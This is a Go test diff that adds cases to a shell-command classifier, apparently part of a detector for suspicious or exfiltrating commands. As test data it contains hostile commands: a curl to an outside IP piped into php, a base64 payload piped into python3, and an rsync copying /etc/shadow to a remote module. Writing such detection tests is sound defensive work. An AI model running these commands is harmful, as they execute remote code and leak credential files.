@@ -14,6 +14,11 @@ var classifyCases = []struct {
 	want cmdClass
 }{
 	{"id 2>&1", classNone},
+	// an interpreter's name as the start of another word (php-fpm in a
+	// grep pattern, shop-wishlist's web shell recon) is no pipe into it
+	{`ps -eo user,pid,args | grep -E "beanstalk|cron|php-fpm: master" | grep -v grep`, classNone},
+	{"curl -s http://198.51.100.7/x | php", classSuspicious},
+	{"echo cHJpbnQoMSk= | base64 -d | python3 -", classSuspicious},
 	// rsync to a daemon's module or another host sends data out; a
 	// local copy or a fetch does not
 	{"/usr/bin/sudo -n /usr/bin/rsync -a /etc/shadow /srv/app/conf rsync://127.0.0.1:8730/drop/desk/", classExfilImpact},
